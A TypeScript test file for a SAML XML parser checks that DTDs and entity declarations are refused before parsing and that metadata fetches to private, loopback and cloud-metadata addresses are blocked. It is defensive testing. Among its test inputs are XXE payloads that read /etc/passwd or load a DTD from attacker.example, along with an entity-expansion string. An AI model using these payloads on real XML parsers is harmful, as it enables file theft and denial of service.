import { describe, expect, it } from 'vitest';
import { addressAllowed } from './saml-metadata-fetch.ts';
import { parseSamlXml, refuseDeclarations, SamlXmlError } from './saml-xml.ts';

const problemOf = (f: () => unknown) => {
  try {
    f();
  } catch (e) {
    return e instanceof SamlXmlError ? e.problem : 'other';
  }
  return 'none';
};

describe('SAML XML reading (PRO-5)', () => {
  it('PRO-5: a DTD, an entity or another markup declaration is refused on the raw text, before parsing', () => {
    for (const xml of [
      '<!DOCTYPE r><r/>',
      '<!doctype r><r/>',
      '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
      '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><r/>',
      '<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><r>&b;</r>',
      '<r><!ELEMENT r ANY></r>',
      '<?xml-stylesheet href="x"?><r/>',
    ]) {
      expect(problemOf(() => refuseDeclarations(xml)), xml).toBe('doctype');
      expect(problemOf(() => parseSamlXml(xml)), xml).toBe('doctype');
    }
    expect(problemOf(() => parseSamlXml('<?xml version="1.0" encoding="UTF-8"?><r><!-- a comment --><![CDATA[<x>]]></r>'))).toBe('none');
  });

  it('PRO-5: malformed XML, two roots and oversize documents are refused', () => {
    expect(problemOf(() => parseSamlXml('<r>'))).toBe('malformed');
    expect(problemOf(() => parseSamlXml('<r/><s/>'))).toBe('malformed');
    expect(problemOf(() => parseSamlXml('not xml'))).toBe('malformed');
    expect(problemOf(() => parseSamlXml(`<r>${'a'.repeat(300 * 1024)}</r>`))).toBe('too_large');
  });

  it('PRO-5: metadata is never fetched from loopback, private, link-local or internal addresses (unless the test flag allows loopback)', () => {
    for (const a of ['127.0.0.1', '::1', '10.0.0.1', '172.16.5.4', '192.168.1.1', '169.254.169.254', '100.64.0.1', '0.0.0.0', '::', 'fc00::1', 'fe80::1', '::ffff:127.0.0.1', '::ffff:10.0.0.1', '224.0.0.1']) expect(addressAllowed(a, false), a).toBe(false);
    for (const a of ['93.184.216.34', '2606:2800:220:1::1', '::ffff:93.184.216.34']) expect(addressAllowed(a, false), a).toBe(true);
    expect(addressAllowed('127.0.0.1', true)).toBe(true);
    expect(addressAllowed('10.0.0.1', true)).toBe(false);
  });
});
